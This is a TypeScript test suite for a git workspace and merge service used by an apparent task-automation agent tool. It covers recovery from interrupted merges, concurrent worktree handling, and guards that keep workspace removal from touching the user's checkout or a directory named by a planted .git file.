    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    writeFileSync(join(ws.path, 'feature.txt'), 'feature\n');
    writeFileSync(join(ws.path, 'src/math.js'), 'module.exports = {};\n');
    const { commit } = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'feature');
    const master = git(repo, 'rev-parse', 'HEAD').trim();
    class KilledBeforeRef extends Git {
      override run(args: readonly string[], options: GitOptions): Promise<GitResult> {
        if (args[0] === 'update-ref' && args[2]?.startsWith('cta: ')) {
          return Promise.reject(new Error('the server was killed'));
        }
        return super.run(args, options);
      }
    }
    const merges = (gitOfServer: Git) =>
      new WorkspaceMergeService(
        gitOfServer,
        new RepositoryLocks(config),
        workspaces,
        new WorkspaceRoot(config, NO_ISOLATION),
      );
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const request = {
      gitDir: s.gitDir,
      base: s.baseCommit,
      source: commit,
      sourceBranch: ws.branch,
      target: branch,
      strategy: 'merge' as const,
      message: 'merge',
      gitConfig: ws.gitConfig,
      expectedTarget: null,
    };
    const records = { ensure: () => Promise.resolve(), record: () => Promise.resolve() };
    await expect(
      merges(new KilledBeforeRef(config, launcher, NO_ISOLATION)).merge(request, records),
    ).rejects.toThrow('the server was killed');
    // The checkout holds the whole merge, staged, under a ref that still names the commit before.
    expect(git(repo, 'rev-parse', branch).trim()).toBe(master);
    expect(git(repo, 'status', '--porcelain')).toBe('A  feature.txt\nM  src/math.js\n');
    const next = merges(new Git(config, launcher, NO_ISOLATION));
    return {
      repo,
      master,
      branch,
      merge: (target = branch) => next.merge({ ...request, target }, records),
    };
  }

  it('puts back a checkout that a merge cut off (its server killed) had moved whole under the old ref, and the next merge goes ahead', async () => {
    const { repo, master, branch, merge } = await mergeCutBeforeRef('merge-cut-whole');
    const outcome = await merge();
    expect(outcome).toMatchObject({
      previous: master,
      updatedWorktree: repo,
      alreadyMerged: false,
    });
    expect(git(repo, 'rev-parse', branch).trim()).toBe(outcome.commit);
    expect(git(repo, 'log', '-1', '--format=%P', branch).trim()).toMatch(new RegExp(`^${master} `));
    expect(git(repo, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    expect(readFileSync(join(repo, 'feature.txt'), 'utf8')).toBe('feature\n');
    expect(existsSync(join(repo, '.git', MERGE_JOURNAL_NAME))).toBe(false);
  });

  it('a checkout it cannot put back yet (its index locked) holds up merges into its branch only', async () => {
    const { repo, master, branch, merge } = await mergeCutBeforeRef('merge-cut-locked');
    git(repo, 'branch', 'other', master);
    const lock = join(repo, '.git', 'index.lock');
    writeFileSync(lock, '');
    const other = await merge('other');
    expect(git(repo, 'rev-parse', 'other').trim()).toBe(other.commit);
    await expect(merge()).rejects.toMatchObject({
      code: 'merge_refused',
      details: { reason: 'worktree_lock_stale', worktree: repo },
    });
    expect(git(repo, 'rev-parse', branch).trim()).toBe(master);
    rmSync(lock);
    const outcome = await merge();
    expect(git(repo, 'rev-parse', branch).trim()).toBe(outcome.commit);
    expect(git(repo, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    expect(existsSync(join(repo, '.git', MERGE_JOURNAL_NAME))).toBe(false);
  });

  it('refuses merges into a checkout that a cut-off merge left holding part of its change, saying how to put it back, until it is', async () => {
    const { repo, master, branch, merge } = await mergeCutBeforeRef('merge-cut-part');
    // As a read-tree killed half-way leaves it: files written, the index still the old one.
    git(repo, 'read-tree', master);
    expect(git(repo, 'status', '--porcelain')).toBe(' M src/math.js\n?? feature.txt\n');
    for (let attempt = 0; attempt < 2; attempt += 1) {
      await expect(merge()).rejects.toMatchObject({
        code: 'merge_refused',
        details: { reason: 'merge_interrupted', worktree: repo, previous_commit: master },
        message: expect.stringContaining(`git -C ${repo} reset --hard`) as unknown,
      });
    }
    expect(git(repo, 'rev-parse', branch).trim()).toBe(master);
    git(repo, 'reset', '-q', '--hard');
    rmSync(join(repo, 'feature.txt'));
    const outcome = await merge();
    expect(git(repo, 'rev-parse', branch).trim()).toBe(outcome.commit);
    expect(git(repo, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    expect(existsSync(join(repo, '.git', MERGE_JOURNAL_NAME))).toBe(false);
  });

  it('refuses too where the cut-off merge had written only new files (git killed before its index and the changed files), until they are removed', async () => {
    const { repo, master, branch, merge } = await mergeCutBeforeRef('merge-cut-new');
    // As a read-tree killed before it wrote anything but the files the change adds.
    git(repo, 'reset', '-q', '--hard', master);
    writeFileSync(join(repo, 'feature.txt'), 'feature\n');
    expect(git(repo, 'status', '--porcelain')).toBe('?? feature.txt\n');
    await expect(merge()).rejects.toMatchObject({
      code: 'merge_refused',
      details: { reason: 'merge_interrupted', worktree: repo, previous_commit: master },
      message: expect.stringContaining('none of the files the change adds') as unknown,
    });
    git(repo, 'branch', 'other', master);
    const other = await merge('other');
    expect(git(repo, 'rev-parse', 'other').trim()).toBe(other.commit);
    expect(existsSync(join(repo, '.git', MERGE_JOURNAL_NAME))).toBe(true);
    rmSync(join(repo, 'feature.txt'));
    const outcome = await merge();
    expect(git(repo, 'rev-parse', branch).trim()).toBe(outcome.commit);
    expect(readFileSync(join(repo, 'feature.txt'), 'utf8')).toBe('feature\n');
    expect(existsSync(join(repo, '.git', MERGE_JOURNAL_NAME))).toBe(false);
  });

  it('follows no .git file the agent wrote out of the repository: a leftover pointing elsewhere is removed, nothing written there', async () => {
    const victim = join(root, 'victim');
    mkdirSync(victim, { recursive: true });
    const removing = join(config.WORKSPACES_DIR, `.removing-${randomUUID()}`);
    // A worktree entry of the agent's making, naming another directory as the repository.
    const admin = join(removing, 'fake-admin');
    mkdirSync(admin, { recursive: true });
    writeFileSync(join(admin, 'commondir'), victim);
    writeFileSync(join(removing, '.git'), `gitdir: ${admin}\n`);
    expect(await service().finishRemovals()).toBe(1);
    expect(existsSync(removing)).toBe(false);
    expect(readdirSync(victim)).toEqual([]);
  });

  it('takes the whole task id when an earlier branch took the short name', async () => {
    const repo = copyFixtureProject('node-basic', root, 'collision');
    const s = spec(repo);
    git(repo, 'branch', `cta/${s.taskId.slice(0, 8)}-add-a-helper`);
    git(repo, 'commit', '-q', '--allow-empty', '-m', 'moves master');
    git(repo, 'branch', '-f', `cta/${s.taskId.slice(0, 8)}-add-a-helper`, 'HEAD');
    const ws = await service().prepare(s);
    expect(ws.branch).toBe(`cta/${s.taskId}-add-a-helper`);
  });

  it('commits only what the project does not ignore; nothing to commit is no commit', async () => {
    const repo = copyFixtureProject('node-basic', root, 'ignored');
    writeFileSync(join(repo, '.gitignore'), 'node_modules/\n*.log\n');
    git(repo, 'add', '.gitignore');
    git(repo, 'commit', '-q', '-m', 'ignore');
    const workspaces = service();
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    const ref = { ...ws, gitDir: s.gitDir };
    expect(await workspaces.commit(ref, 'nothing')).toEqual({
      commit: s.baseCommit,
      changed: false,
    });
    mkdirSync(join(ws.path, 'node_modules/pkg'), { recursive: true });
    writeFileSync(join(ws.path, 'node_modules/pkg/index.js'), 'x');
    writeFileSync(join(ws.path, 'debug.log'), 'x');
    writeFileSync(join(ws.path, 'src/kept.js'), 'x');
    const { commit } = await workspaces.commit(ref, 'kept');
    expect(git(repo, 'diff', '--name-only', s.baseCommit, commit).trim()).toBe('src/kept.js');
  });

  it('keeps the work of an agent that moved HEAD off the branch, and puts the workspace back on it', async () => {
    const repo = copyFixtureProject('node-basic', root, 'detached');
    const workspaces = service();
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    writeFileSync(join(ws.path, 'a.txt'), 'on the branch\n');
    const onBranch = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'on branch');
    // The agent checks out the base again, detached, and works there.
    git(ws.path, 'checkout', '-q', '--detach', s.baseCommit);
    writeFileSync(join(ws.path, 'b.txt'), 'detached work\n');
    const { commit } = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'joined');
    expect(git(repo, 'rev-parse', ws.branch).trim()).toBe(commit);
    expect(git(repo, 'log', '-1', '--format=%P', commit).trim()).toBe(
      `${onBranch.commit} ${s.baseCommit}`,
    );
    expect(git(repo, 'show', `${commit}:b.txt`)).toBe('detached work\n');
    expect(git(ws.path, 'symbolic-ref', 'HEAD').trim()).toBe(`refs/heads/${ws.branch}`);
    expect(git(ws.path, 'status', '--porcelain')).toBe('');
  });

  it('checks a new task out with one worktree add (its repository read from the files) and commits on its branch with one git commit', async () => {
    const repo = copyFixtureProject('node-basic', root, 'few-calls');
    const counting = new CountingGit(config, launcher, NO_ISOLATION);
    const workspaces = service(counting);
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    expect(counting.calls).toEqual(['worktree add']);
    counting.calls.length = 0;
    writeFileSync(join(ws.path, 'new.txt'), 'new\n');
    const message = 'Add new.txt\n\n# not a comment  \n\n';
    const result = await workspaces.commit({ ...ws, gitDir: s.gitDir }, message);
    expect(counting.calls).toEqual(['add', 'commit']);
    expect(result).toEqual({ commit: git(repo, 'rev-parse', ws.branch).trim(), changed: true });
    expect(git(repo, 'log', '-1', '--format=%P|%an <%ae>|%cn <%ce>', ws.branch).trim()).toBe(
      `${s.baseCommit}|Claude Task Automation <cta@localhost>|Claude Task Automation <cta@localhost>`,
    );
    expect(git(repo, 'cat-file', 'commit', result.commit).split('\n\n').slice(1).join('\n\n')).toBe(
      message,
    );
    expect(git(repo, 'reflog', '-1', '--format=%gs', ws.branch).trim()).toBe('cta: Add new.txt');

    counting.calls.length = 0;
    expect(await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'nothing')).toEqual({
      commit: result.commit,
      changed: false,
    });
    expect(counting.calls).toEqual(['add', 'commit']);
  });

  it('asks git, and refuses, when the project is no longer in the repository its task was created in', async () => {
    const outer = join(root, 'outer');
    mkdirSync(outer);
    git(outer, 'init', '-q');
    const repo = copyFixtureProject('node-basic', outer, 'moved');
    const s = spec(repo);
    // The project's own repository is gone: the one around it now is another.
    rmSync(join(repo, '.git'), { recursive: true, force: true });
    const counting = new CountingGit(config, launcher, NO_ISOLATION);
    await expect(service(counting).prepare(s)).rejects.toThrow(
      `${repo} is no longer in the git repository the task was created in (${s.gitDir})`,
    );
    expect(counting.calls).toEqual(['rev-parse']);
  });

  it('says a project directory it cannot find cannot be found on this server, naming it, and runs no git', async () => {
    const repo = copyFixtureProject('node-basic', root, 'not-here');
    const s = spec(repo);
    rmSync(repo, { recursive: true, force: true });
    const counting = new CountingGit(config, launcher, NO_ISOLATION);
    const prepared = service(counting).prepare(s);
    await expect(prepared).rejects.toThrow(WorkingDirectoryGoneError);
    await expect(prepared).rejects.toThrow(
      `directory ${repo} cannot be found on this server (${hostname()})`,
    );
    expect(counting.calls).toEqual([]);
  });

  it('commits with the branch as the only parent while a merge the agent began is under way', async () => {
    const repo = copyFixtureProject('node-basic', root, 'merging');
    const counting = new CountingGit(config, launcher, NO_ISOLATION);
    const workspaces = service(counting);
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    git(repo, 'branch', 'side', s.baseCommit);
    git(repo, 'worktree', 'add', '-q', join(root, 'merging-side'), 'side');
    writeFileSync(join(root, 'merging-side', 'side.txt'), 'side\n');
    git(join(root, 'merging-side'), 'add', 'side.txt');
    git(join(root, 'merging-side'), 'commit', '-q', '-m', 'side');
    git(ws.path, 'merge', '-q', '--no-ff', '--no-commit', 'side');
    writeFileSync(join(ws.path, 'mine.txt'), 'mine\n');
    counting.calls.length = 0;
    const { commit } = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'mid-merge');
    expect(counting.calls).toContain('commit-tree');
    expect(git(repo, 'log', '-1', '--format=%P', commit).trim()).toBe(s.baseCommit);
    expect(git(repo, 'show', `${commit}:mine.txt`)).toBe('mine\n');
    expect(git(repo, 'rev-parse', ws.branch).trim()).toBe(commit);
  });

  it('inspects a directory from its files, or with git where they leave a doubt: its repository, place, commit and branch', async () => {
    const repo = copyFixtureProject('node-basic', root, 'inspect');
    mkdirSync(join(repo, 'sub'));
    const counting = new CountingGit(config, launcher, NO_ISOLATION);
    const workspaces = service(counting);
    const head = git(repo, 'rev-parse', 'HEAD').trim();
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const gitDir = realpathSync(join(repo, '.git'));
    expect(await workspaces.inspect(join(repo, 'sub'))).toEqual({
      toplevel: repo,
      prefix: 'sub',
      gitDir,
      head,
      branch,
    });
    expect(counting.calls).toEqual([]);
    git(repo, 'checkout', '-q', '--detach');
    expect(await workspaces.inspect(repo)).toEqual({
      toplevel: repo,
      prefix: '',
      gitDir,
      head,
      branch: null,
    });
    expect(counting.calls).toEqual([]);
    const unborn = join(root, 'inspect-unborn');
    mkdirSync(unborn);
    git(unborn, 'init', '-q', '-b', 'trunk');
    expect(await workspaces.inspect(unborn)).toEqual({
      toplevel: unborn,
      prefix: '',
      gitDir: join(unborn, '.git'),
      head: null,
      branch: 'trunk',
    });
    expect(counting.calls[0]).toBe('rev-parse');
    counting.calls.length = 0;
    expect(await workspaces.inspect(root)).toBeNull();
    // Outside a work tree git's one call fails, and its location alone is asked.
    expect(counting.calls).toEqual(['rev-parse', 'rev-parse']);
    // A repository whose path has a line break: git's answer is refused, and so is the files'.
    const broken = copyFixtureProject('node-basic', root, 'inspect\nbreak');
    await expect(workspaces.inspect(broken)).rejects.toMatchObject({
      code: ErrorCode.ProjectPathInvalid,
    });
  });

  it('removes only workspaces inside WORKSPACES_DIR, never the user checkout', async () => {
    const repo = copyFixtureProject('node-basic', root, 'guard');
    const before = checkoutFingerprint(repo);
    const workspaces = service();
    const attempt = (path: string) =>
      workspaces.retire({
        path,
        gitDir: realpathSync(join(repo, '.git')),
        branch: 'master',
        message: 'x',
        deleteBranchAt: null,
        gitConfig: null,
      });
    for (const path of [repo, config.WORKSPACES_DIR, join(config.WORKSPACES_DIR, '..', 'x')]) {
      await expect(attempt(path)).rejects.toThrow(WorkspaceError);
    }
    expect(checkoutFingerprint(repo)).toEqual(before);
  });

  it('two removals of one workspace at once (a deleted task and the sweep) both succeed, and the work is kept', async () => {
    const repo = copyFixtureProject('node-basic', root, 'twice');
    const workspaces = service();
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    for (let i = 0; i < 200; i += 1) writeFileSync(join(ws.path, `wip${i}.txt`), `${i}\n`);
    const [byTask, bySweep] = await Promise.all([
      workspaces.retire({
        path: ws.path,
        gitDir: s.gitDir,
        branch: ws.branch,
        message: 'kept by the task',
        deleteBranchAt: null,
        gitConfig: null,
      }),
      // The sweep knows only the task id, and finds the path as `retireLeftover` does.
      workspaces.retire({
        path: workspaces.pathFor(s.taskId),
        gitDir: null,
        branch: null,
        message: 'kept by the sweep',
        deleteBranchAt: null,
        gitConfig: null,
      }),
    ]);
    expect(byTask.keptCommit).toBe(git(repo, 'rev-parse', ws.branch).trim());
    expect(bySweep).toEqual({ keptCommit: null, branchDeleted: false });
    expect(existsSync(ws.path)).toBe(false);
    expect(linkedWorktrees(repo)).toEqual([]);
    expect(git(repo, 'show', `${ws.branch}:wip199.txt`)).toBe('199\n');
  });

  it('twenty workspaces of one repository at once, by two services sharing only the repository', async () => {
    const repo = copyFixtureProject('node-basic', root, 'many');
    const before = checkoutFingerprint(repo);
    const services = [service(), service()];
    const specs = Array.from({ length: 20 }, () => spec(repo));
    const prepared = await Promise.all(specs.map((s, i) => services[i % 2].prepare(s)));
    expect(new Set(prepared.map((p) => p.branch)).size).toBe(20);
    expect(linkedWorktrees(repo).sort()).toEqual(prepared.map((p) => p.path).sort());
    await Promise.all(
      prepared.map((p, i) => {
        writeFileSync(join(p.path, `f${i}.txt`), `${i}\n`);
        return services[(i + 1) % 2].retire({
          path: p.path,
          gitDir: specs[i].gitDir,
          branch: p.branch,
          message: `keep ${i}`,
          deleteBranchAt: null,
          gitConfig: null,
        });
      }),
    );
    expect(linkedWorktrees(repo)).toEqual([]);
    expect(
      readdirSync(config.WORKSPACES_DIR).filter((n) => specs.some((s) => s.taskId === n)),
    ).toEqual([]);
    for (const [i, p] of prepared.entries()) {
      expect(git(repo, 'show', `${p.branch}:f${i}.txt`)).toBe(`${i}\n`);
    }
    expect(git(repo, 'fsck', '--no-progress').trim()).toBe('');
    expect(existsSync(join(repo, '.git', 'cta-workspaces.lock'))).toBe(false);
    expect(checkoutFingerprint(repo)).toEqual(before);
  });
});
